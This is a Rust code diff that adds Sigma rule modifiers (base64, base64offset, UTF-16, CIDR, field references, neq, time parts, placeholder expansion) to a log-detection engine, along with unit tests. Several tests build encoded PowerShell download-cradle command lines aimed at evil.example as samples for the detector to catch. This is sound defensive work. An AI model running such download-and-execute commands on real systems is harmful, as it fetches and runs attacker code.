@@ -45,6 +45,39 @@ enum Order {
     Gte,
 }
 
+/// The part of a date that the time modifiers (`|hour`, ...) compare.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum TimePart {
+    Minute,
+    Hour,
+    Day,
+    Week,
+    Month,
+    Year,
+}
+
+impl TimePart {
+    /// The part of a field's date: RFC 3339, or `YYYY-MM-DD HH:MM:SS[.fff]` (Sysmon's `UtcTime`).
+    fn of(self, value: &Value) -> Option<Value> {
+        use chrono::{Datelike, Timelike};
+        let text = value.as_text();
+        let text = text.trim();
+        let t = chrono::DateTime::parse_from_rfc3339(text)
+            .map(|t| t.naive_utc())
+            .or_else(|_| chrono::NaiveDateTime::parse_from_str(text, "%Y-%m-%d %H:%M:%S%.f"))
+            .ok()?;
+        let n = match self {
+            TimePart::Minute => t.minute(),
+            TimePart::Hour => t.hour(),
+            TimePart::Day => t.day(),
+            TimePart::Week => t.iso_week().week(),
+            TimePart::Month => t.month(),
+            TimePart::Year => return Some(Value::Int(i64::from(t.year()))),
+        };
+        Some(Value::Int(i64::from(n)))
+    }
+}
+
 #[derive(Debug)]
 enum ValueMatcher {
     /// A literal without wildcards. Lowercased at compile time unless `cased`.
@@ -61,10 +94,24 @@ enum ValueMatcher {
     Null,
     Exists(bool),
     Compare(Order, f64),
+    /// `|cidr`: the value is an address in the network.
+    Cidr(ipnet::IpNet),
+    /// `|fieldref`: the value compares with another field of the same event.
+    FieldRef {
+        field: String,
+        cmp: Cmp,
+        cased: bool,
+    },
+    /// `|neq`: the value is present and does not match.
+    Not(Box<ValueMatcher>),
+    /// A time modifier: the matcher applies to that part of the value's date.
+    Time(TimePart, Box<ValueMatcher>),
+    /// The variants of one value (`|windash`, `|base64offset`): any of them.
+    Any(Vec<ValueMatcher>),
 }
 
 impl ValueMatcher {
-    fn matches(&self, value: &Value) -> bool {
+    fn matches(&self, value: &Value, event: &Event) -> bool {
         match self {
             ValueMatcher::Text { needle, cmp, cased } => {
                 if value.is_null() {
@@ -89,6 +136,20 @@ impl ValueMatcher {
                 Order::Gt => v > *n,
                 Order::Gte => v >= *n,
             }),
+            ValueMatcher::Cidr(net) => {
+                value.as_text().trim().parse::<std::net::IpAddr>().is_ok_and(|ip| net.contains(&ip))
+            }
+            ValueMatcher::FieldRef { field, cmp, cased } => match event.field(field) {
+                // Both fields present and not null; compared as text.
+                Some(other) if !value.is_null() && !other.is_null() => {
+                    let (hay, needle) = (value.as_text(), other.as_text());
+                    if *cased { compare(&hay, &needle, *cmp) } else { compare_ci(&hay, &needle.to_lowercase(), *cmp) }
+                }
+                _ => false,
+            },
+            ValueMatcher::Not(m) => !m.matches(value, event),
+            ValueMatcher::Time(part, m) => part.of(value).is_some_and(|v| m.matches(&v, event)),
+            ValueMatcher::Any(ms) => ms.iter().any(|m| m.matches(value, event)),
         }
     }
 
@@ -97,6 +158,8 @@ impl ValueMatcher {
         match self {
             ValueMatcher::Null => true,
             ValueMatcher::Exists(want) => !*want,
+            ValueMatcher::Any(ms) => ms.iter().any(ValueMatcher::matches_absent),
+            // An absent field makes every comparison false, `neq` included.
             _ => false,
         }
     }
@@ -140,15 +203,15 @@ impl Item {
             Some(name) => match event.field(name) {
                 Some(v) => self.combine(|m| match m {
                     ValueMatcher::Exists(want) => *want,
-                    m => m.matches(v),
+                    m => m.matches(v, event),
                 }),
                 None => self.combine(ValueMatcher::matches_absent),
             },
             None => {
                 let message = event.field("message").filter(|m| !m.as_text().is_empty());
                 match message {
-                    Some(m) => self.combine(|vm| vm.matches(m)),
-                    None => self.combine(|vm| event.fields.values().any(|v| vm.matches(v))),
+                    Some(m) => self.combine(|vm| vm.matches(m, event)),
+                    None => self.combine(|vm| event.fields.values().any(|v| vm.matches(v, event))),
                 }
             }
         }
@@ -203,7 +266,23 @@ impl Detection {
     }
 }
 
-pub(crate) fn compile(detection: &serde_yaml_ng::Mapping) -> Result<Detection, CompileError> {
+/// Values for `%name%` placeholders (`|expand`), by name.
+pub type Placeholders = std::collections::HashMap<String, Vec<String>>;
+
+/// What compiling a detection needs besides the detection: placeholder values, and where to
+/// note the placeholders that had none.
+pub(crate) struct Ctx<'a> {
+    pub placeholders: &'a Placeholders,
+    pub missing: std::cell::RefCell<std::collections::BTreeSet<String>>,
+}
+
+impl<'a> Ctx<'a> {
+    pub(crate) fn new(placeholders: &'a Placeholders) -> Self {
+        Ctx { placeholders, missing: Default::default() }
+    }
+}
+
+pub(crate) fn compile(detection: &serde_yaml_ng::Mapping, placeholders: &Ctx<'_>) -> Result<Detection, CompileError> {
     let mut searches = Vec::new();
     let mut conditions = Vec::new();
     for (key, value) in detection {
@@ -229,7 +308,7 @@ pub(crate) fn compile(detection: &serde_yaml_ng::Mapping) -> Result<Detection, C
                     "`timeframe` in a detection is the deprecated Sigma v1 aggregation; write a correlation rule",
                 ));
             }
-            _ => searches.push(compile_search(name, value)?),
+            _ => searches.push(compile_search(name, value, placeholders)?),
         }
     }
     if conditions.is_empty() {
@@ -291,11 +370,11 @@ fn glob(pattern: &str, name: &str) -> bool {
     }
 }
 
-fn compile_search(name: &str, value: &Yaml) -> Result<Search, CompileError> {
+fn compile_search(name: &str, value: &Yaml, placeholders: &Ctx<'_>) -> Result<Search, CompileError> {
     let alternatives = match value {
-        Yaml::Mapping(map) => vec![compile_map(map)?],
+        Yaml::Mapping(map) => vec![compile_map(map, placeholders)?],
         Yaml::Sequence(seq) if seq.iter().all(|v| matches!(v, Yaml::Mapping(_))) && !seq.is_empty() => {
-            seq.iter().filter_map(|v| v.as_mapping()).map(compile_map).collect::<Result<_, _>>()?
+            seq.iter().filter_map(|v| v.as_mapping()).map(|m| compile_map(m, placeholders)).collect::<Result<_, _>>()?
         }
         Yaml::Sequence(seq) => vec![vec![keywords(seq)?]],
         Yaml::String(_) | Yaml::Number(_) => vec![vec![keywords(std::slice::from_ref(value))?]],
@@ -323,18 +402,32 @@ fn keywords(values: &[Yaml]) -> Result<Item, CompileError> {
     Ok(Item { field: None, values: matchers, all: false })
 }
 
-fn compile_map(map: &serde_yaml_ng::Mapping) -> Result<Vec<Item>, CompileError> {
+fn compile_map(map: &serde_yaml_ng::Mapping, placeholders: &Ctx<'_>) -> Result<Vec<Item>, CompileError> {
     let mut items = Vec::new();
     for (key, value) in map {
         let Some(key) = key.as_str() else {
             return Err(err("bad_detection", format!("field name {key:?} is not a string")));
         };
-        items.push(compile_item(key, value)?);
+        items.push(compile_item(key, value, placeholders)?);
     }
     if items.is_empty() {
         return Err(err("bad_detection", "empty selection"));
     }
     Ok(items)
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Utf16 {
+    Le,
+    Be,
+    /// Little-endian after a byte order mark.
+    Bom,
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Base64 {
+    Plain,
+    Offset,
 }
 
 #[derive(Default)]
@@ -347,9 +440,16 @@ struct Modifiers {
     exists: bool,
     windash: bool,
     order: Option<Order>,
+    utf16: Option<Utf16>,
+    base64: Option<Base64>,
+    cidr: bool,
+    fieldref: bool,
+    expand: bool,
+    neq: bool,
+    time: Option<TimePart>,
 }
 
-fn compile_item(key: &str, value: &Yaml) -> Result<Item, CompileError> {
+fn compile_item(key: &str, value: &Yaml, placeholders: &Ctx<'_>) -> Result<Item, CompileError> {
     let mut parts = key.split('|');
     let field = parts.next().unwrap_or_default();
     let mut m = Modifiers::default();
@@ -370,13 +470,21 @@ fn compile_item(key: &str, value: &Yaml) -> Result<Item, CompileError> {
             "lte" => m.order = Some(Order::Lte),
             "gt" => m.order = Some(Order::Gt),
             "gte" => m.order = Some(Order::Gte),
-            "base64" | "base64offset" | "utf16le" | "utf16be" | "utf16" | "wide" | "cidr" | "fieldref" | "expand"
-            | "neq" | "minute" | "hour" | "day" | "week" | "month" | "year" => {
-                return Err(err(
-                    "unsupported_modifier",
-                    format!("modifier `{modifier}` (in `{key}`) is not supported yet"),
-                ));
-            }
+            "base64" => m.base64 = Some(Base64::Plain),
+            "base64offset" => m.base64 = Some(Base64::Offset),
+            "utf16le" | "wide" => m.utf16 = Some(Utf16::Le),
+            "utf16be" => m.utf16 = Some(Utf16::Be),
+            "utf16" => m.utf16 = Some(Utf16::Bom),
+            "cidr" => m.cidr = true,
+            "fieldref" => m.fieldref = true,
+            "expand" => m.expand = true,
+            "neq" => m.neq = true,
+            "minute" => m.time = Some(TimePart::Minute),
+            "hour" => m.time = Some(TimePart::Hour),
+            "day" => m.time = Some(TimePart::Day),
+            "week" => m.time = Some(TimePart::Week),
+            "month" => m.time = Some(TimePart::Month),
+            "year" => m.time = Some(TimePart::Year),
             other => return Err(err("unknown_modifier", format!("unknown modifier `{other}` in `{key}`"))),
         }
     }
@@ -391,14 +499,123 @@ fn compile_item(key: &str, value: &Yaml) -> Result<Item, CompileError> {
         item.all = m.all;
         return Ok(item);
     }
+    if m.utf16.is_some() && m.base64.is_none() {
+        return Err(err(
+            "bad_modifier",
+            format!("`{key}`: a UTF-16 modifier gives bytes, not text: follow it with `base64` or `base64offset`"),
+        ));
+    }
     let mut matchers = Vec::new();
     for v in values {
-        value_matchers(v, &m, key, &mut matchers)?;
+        if m.expand {
+            for v in expand(v, placeholders)? {
+                matchers.push(value_matcher(&v, &m, key)?);
+            }
+        } else {
+            matchers.push(value_matcher(v, &m, key)?);
+        }
     }
-    Ok(Item { field: Some(field.to_owned()), values: matchers, all: m.all })
+    // `neq` with a list: the value differs from every one of them.
+    let all = m.all || m.neq;
+    Ok(Item { field: Some(field.to_owned()), values: matchers, all })
+}
+
+/// `%name%` placeholders replaced by their values (a placeholder with several values gives a
+/// value for each). A placeholder without values gives no value, so the item matches nothing;
+/// it is noted in `ctx.missing` and reported as a warning.
+fn expand(v: &Yaml, ctx: &Ctx<'_>) -> Result<Vec<Yaml>, CompileError> {
+    let Some(text) = v.as_str() else { return Ok(vec![v.clone()]) };
+    let mut out = vec![String::new()];
+    let mut rest = text;
+    while let Some(start) = rest.find('%') {
+        let Some(len) = rest[start + 1..].find('%') else { break };
+        let name = &rest[start + 1..start + 1 + len];
+        let Some(values) = ctx.placeholders.get(name) else {
+            ctx.missing.borrow_mut().insert(name.to_owned());
+            return Ok(Vec::new());
+        };
+        let prefix = &rest[..start];
+        out = out.iter().flat_map(|o| values.iter().map(move |v| format!("{o}{prefix}{v}"))).collect();
+        rest = &rest[start + len + 2..];
+    }
+    Ok(out.into_iter().map(|o| Yaml::String(format!("{o}{rest}"))).collect())
+}
+
+/// One value's matcher, wrapped for `neq` and the time modifiers.
+fn value_matcher(v: &Yaml, m: &Modifiers, key: &str) -> Result<ValueMatcher, CompileError> {
+    let mut found = Vec::new();
+    value_matchers(v, m, key, &mut found)?;
+    let mut matcher = if found.len() == 1 { found.remove(0) } else { ValueMatcher::Any(found) };
+    if let Some(part) = m.time {
+        matcher = ValueMatcher::Time(part, Box::new(matcher));
+    }
+    if m.neq {
+        matcher = ValueMatcher::Not(Box::new(matcher));
+    }
+    Ok(matcher)
+}
+
+/// The text a value becomes under the encoding modifiers: one string, or three for
+/// `base64offset`.
+fn encode(text: &str, m: &Modifiers) -> Vec<String> {
+    use base64::Engine as _;
+    let bytes: Vec<u8> = match m.utf16 {
+        None => text.as_bytes().to_vec(),
+        Some(Utf16::Le) => text.encode_utf16().flat_map(u16::to_le_bytes).collect(),
+        Some(Utf16::Be) => text.encode_utf16().flat_map(u16::to_be_bytes).collect(),
+        Some(Utf16::Bom) => [0xFF, 0xFE].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect(),
+    };
+    let b64 = base64::engine::general_purpose::STANDARD;
+    match m.base64 {
+        None => vec![text.to_owned()],
+        Some(Base64::Plain) => vec![b64.encode(&bytes)],
+        // The value at each of the three offsets in a longer base64 string: the characters
+        // that depend only on the value (pySigma's `base64offset`).
+        Some(Base64::Offset) => (0..3)
+            .map(|shift| {
+                let mut shifted = vec![b' '; shift];
+                shifted.extend_from_slice(&bytes);
+                let encoded = b64.encode(&shifted);
+                let start = [0, 2, 3][shift];
+                let end_cut = [0, 3, 2][(bytes.len() + shift) % 3];
+                encoded.get(start..encoded.len().saturating_sub(end_cut)).unwrap_or_default().to_owned()
+            })
+            .collect(),
+    }
+}
+
+/// A literal for [`text_matcher`]: its wildcard characters escaped.
+fn literal(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        if matches!(c, '*' | '?' | '\\') {
+            out.push('\\');
+        }
+        out.push(c);
+    }
+    out
 }
 
 fn value_matchers(v: &Yaml, m: &Modifiers, key: &str, out: &mut Vec<ValueMatcher>) -> Result<(), CompileError> {
+    if m.fieldref {
+        let Some(field) = v.as_str() else {
+            return Err(err("bad_value", format!("`{key}` needs a field name")));
+        };
+        out.push(ValueMatcher::FieldRef { field: field.to_owned(), cmp: m.cmp.unwrap_or(Cmp::Exact), cased: m.cased });
+        return Ok(());
+    }
+    if m.cidr {
+        let text = match v {
+            Yaml::String(s) => s.trim().to_owned(),
+            _ => return Err(err("bad_value", format!("`{key}` needs a network such as 10.0.0.0/8"))),
+        };
+        let net = text
+            .parse::<ipnet::IpNet>()
+            .or_else(|_| text.parse::<std::net::IpAddr>().map(ipnet::IpNet::from))
+            .map_err(|_| err("bad_value", format!("`{key}`: {text:?} is not a CIDR network")))?;
+        out.push(ValueMatcher::Cidr(net.trunc()));
+        return Ok(());
+    }
     if m.exists {
         let Some(b) = v.as_bool() else {
             return Err(err("bad_value", format!("`{key}` needs true or false")));
@@ -452,16 +669,24 @@ fn value_matchers(v: &Yaml, m: &Modifiers, key: &str, out: &mut Vec<ValueMatcher
         return Ok(());
     }
     let cmp = m.cmp.unwrap_or(Cmp::Exact);
-    if m.windash {
-        let mut variants: Vec<String> =
+    let variants: Vec<String> = if m.windash {
+        let mut v: Vec<String> =
             ['-', '/', '\u{2013}', '\u{2014}', '\u{2015}'].iter().map(|d| text.replace('-', &d.to_string())).collect();
-        variants.dedup();
-        for variant in variants {
+        v.dedup();
+        v
+    } else {
+        vec![text]
+    };
+    for variant in variants {
+        if m.base64.is_some() {
+            // Encoded text is literal: the value's wildcards cannot survive the encoding.
+            for encoded in encode(&variant, m) {
+                out.push(text_matcher(&literal(&encoded), cmp, m.cased)?);
+            }
+        } else {
             out.push(text_matcher(&variant, cmp, m.cased)?);
         }
-        return Ok(());
     }
-    out.push(text_matcher(&text, cmp, m.cased)?);
     Ok(())
 }
 
@@ -555,7 +780,7 @@ mod tests {
 
     fn det(yaml: &str) -> Detection {
         let map: serde_yaml_ng::Mapping = serde_yaml_ng::from_str(yaml).unwrap_or_else(|e| panic!("{e}"));
-        compile(&map).unwrap_or_else(|e| panic!("{}: {}", e.code, e.message))
+        compile(&map, &Ctx::new(&Placeholders::new())).unwrap_or_else(|e| panic!("{}: {}", e.code, e.message))
     }
 
     fn s(v: &str) -> Value {
@@ -630,13 +855,122 @@ mod tests {
     fn bad_detections_are_errors() {
         for (yaml, code) in [
             ("sel:\n  a: 1\ncondition: nope", "unknown_identifier"),
-            ("sel:\n  a|base64offset: x\ncondition: sel", "unsupported_modifier"),
+            ("sel:\n  a|wide: x\ncondition: sel", "bad_modifier"),
+            ("sel:\n  a|cidr: 10.0.0.0/33\ncondition: sel", "bad_value"),
             ("sel:\n  a|bogus: x\ncondition: sel", "unknown_modifier"),
             ("sel:\n  a|re: '('\ncondition: sel", "bad_regex"),
             ("sel:\n  a: 1", "missing_field"),
         ] {
             let map: serde_yaml_ng::Mapping = serde_yaml_ng::from_str(yaml).unwrap_or_else(|e| panic!("{e}"));
-            assert_eq!(compile(&map).map(|_| ()).map_err(|e| e.code), Err(code), "{yaml}");
+            assert_eq!(
+                compile(&map, &Ctx::new(&Placeholders::new())).map(|_| ()).map_err(|e| e.code),
+                Err(code),
+                "{yaml}"
+            );
         }
+    }
+
+    fn b64(bytes: &[u8]) -> String {
+        use base64::Engine as _;
+        base64::engine::general_purpose::STANDARD.encode(bytes)
+    }
+
+    fn utf16le(s: &str) -> Vec<u8> {
+        s.encode_utf16().flat_map(u16::to_le_bytes).collect()
+    }
+
+    #[test]
+    fn base64_modifiers() {
+        let d = det("sel:\n  CommandLine|base64: 'whoami'\ncondition: sel");
+        assert!(d.matches(&event(&[("CommandLine", s("d2hvYW1p"))])));
+        assert!(!d.matches(&event(&[("CommandLine", s("x d2hvYW1p"))])));
+
+        // base64offset finds the value wherever it sits in a longer encoded string.
+        let d = det("sel:\n  CommandLine|base64offset|contains: 'http://'\ncondition: sel");
+        for prefix in ["", "a", "ab", "abc", "IEX (New-Object Net.WebClient).DownloadString('"] {
+            let encoded = b64(format!("{prefix}http://evil.example/x')").as_bytes());
+            assert!(d.matches(&event(&[("CommandLine", s(&format!("powershell -enc {encoded}")))])), "{prefix:?}");
+        }
+        assert!(!d.matches(&event(&[("CommandLine", s(&b64(b"ftp://evil.example/x")))])));
+
+        // UTF-16LE then base64, as PowerShell's -EncodedCommand carries it.
+        let d = det("sel:\n  CommandLine|wide|base64offset|contains: 'DownloadString'\ncondition: sel");
+        for prefix in ["", "I", "IE", "IEX (New-Object Net.WebClient)."] {
+            let encoded = b64(&utf16le(&format!("{prefix}DownloadString('http://x')")));
+            assert!(d.matches(&event(&[("CommandLine", s(&format!("powershell -e {encoded}")))])), "{prefix:?}");
+        }
+        assert!(!d.matches(&event(&[("CommandLine", s(&b64(&utf16le("Invoke-WebRequest"))))])));
+
+        let d = det("sel:\n  a|utf16be|base64: 'cmd'\ncondition: sel");
+        assert!(d.matches(&event(&[("a", s(&b64(&[0, b'c', 0, b'm', 0, b'd'])))])));
+        let d = det("sel:\n  a|utf16|base64: 'cmd'\ncondition: sel");
+        assert!(d.matches(&event(&[("a", s(&b64(&[0xFF, 0xFE, b'c', 0, b'm', 0, b'd', 0])))])));
+    }
+
+    #[test]
+    fn cidr_fieldref_neq_and_time_parts() {
+        let d = det("sel:\n  DestinationIp|cidr:\n    - 10.0.0.0/8\n    - '2001:db8::/32'\ncondition: sel");
+        assert!(d.matches(&event(&[("DestinationIp", s("10.20.30.40"))])));
+        assert!(d.matches(&event(&[("DestinationIp", s("2001:db8::1"))])));
+        assert!(!d.matches(&event(&[("DestinationIp", s("11.0.0.1"))])));
+        assert!(!d.matches(&event(&[("DestinationIp", s("not an ip"))])));
+        assert!(!d.matches(&event(&[])));
+
+        let d = det("sel:\n  TargetUserName|fieldref: SubjectUserName\ncondition: sel");
+        assert!(d.matches(&event(&[("TargetUserName", s("Alice")), ("SubjectUserName", s("alice"))])));
+        assert!(!d.matches(&event(&[("TargetUserName", s("alice")), ("SubjectUserName", s("bob"))])));
+        assert!(!d.matches(&event(&[("TargetUserName", s("alice"))])));
+        let d = det("sel:\n  Image|fieldref|endswith: OriginalFileName\ncondition: sel");
+        assert!(d.matches(&event(&[("Image", s("C:\\x\\cmd.exe")), ("OriginalFileName", s("Cmd.Exe"))])));
+        let d = det("sel:\n  a|fieldref|neq: b\ncondition: sel");
+        assert!(d.matches(&event(&[("a", s("1")), ("b", s("2"))])));
+        assert!(!d.matches(&event(&[("a", s("1")), ("b", s("1"))])));
+
+        // neq: present and different from every value; absent is false.
+        let d = det("sel:\n  User|neq:\n    - SYSTEM\n    - LOCAL SERVICE\ncondition: sel");
+        assert!(d.matches(&event(&[("User", s("alice"))])));
+        assert!(!d.matches(&event(&[("User", s("system"))])));
+        assert!(!d.matches(&event(&[("User", s("Local Service"))])));
+        assert!(!d.matches(&event(&[])));
+        let d = det("sel:\n  EventID|neq: 4624\ncondition: sel");
+        assert!(d.matches(&event(&[("EventID", Value::Int(4625))])));
+        assert!(!d.matches(&event(&[("EventID", Value::Int(4624))])));
+
+        let d = det("sel:\n  UtcTime|hour|gte: 22\ncondition: sel");
+        assert!(d.matches(&event(&[("UtcTime", s("2026-11-23 23:10:00.123"))])));
+        assert!(!d.matches(&event(&[("UtcTime", s("2026-11-23 08:10:00.123"))])));
+        let d = det("sel:\n  t|month: 11\n  t|year: 2026\n  t|week: 48\ncondition: sel");
+        assert!(d.matches(&event(&[("t", s("2026-11-23T10:00:00Z"))])));
+        assert!(!d.matches(&event(&[("t", s("not a date"))])));
+    }
+
+    #[test]
+    fn windash_variants_of_one_value_are_any_even_with_all() {
+        let d = det("sel:\n  CommandLine|windash|contains|all:\n    - '-enc'\n    - '-nop'\ncondition: sel");
+        assert!(d.matches(&event(&[("CommandLine", s("powershell /nop /enc AAAA"))])));
+        assert!(d.matches(&event(&[("CommandLine", s("powershell \u{2013}nop -enc AAAA"))])));
+        assert!(!d.matches(&event(&[("CommandLine", s("powershell -nop"))])));
+    }
+
+    #[test]
+    fn expand_uses_placeholder_values() {
+        let mut values = Placeholders::new();
+        values.insert("Admins".into(), vec!["alice".into(), "bob".into()]);
+        let map: serde_yaml_ng::Mapping =
+            serde_yaml_ng::from_str("sel:\n  User|expand: '%Admins%'\ncondition: sel").unwrap_or_default();
+        let ctx = Ctx::new(&values);
+        let d = compile(&map, &ctx).unwrap_or_else(|e| panic!("{}", e.message));
+        assert!(d.matches(&event(&[("User", s("BOB"))])));
+        assert!(!d.matches(&event(&[("User", s("mallory"))])));
+        assert!(ctx.missing.borrow().is_empty());
+
+        // Without values the item matches nothing, and the placeholder is noted.
+        let map: serde_yaml_ng::Mapping =
+            serde_yaml_ng::from_str("sel:\n  a: 1\nfilter:\n  User|expand: '%Nobody%'\ncondition: sel and not filter")
+                .unwrap_or_default();
+        let ctx = Ctx::new(&values);
+        let d = compile(&map, &ctx).unwrap_or_else(|e| panic!("{}", e.message));
+        assert!(d.matches(&event(&[("a", Value::Int(1)), ("User", s("anyone"))])));
+        assert_eq!(ctx.missing.borrow().iter().cloned().collect::<Vec<_>>(), ["Nobody"]);
     }
 }
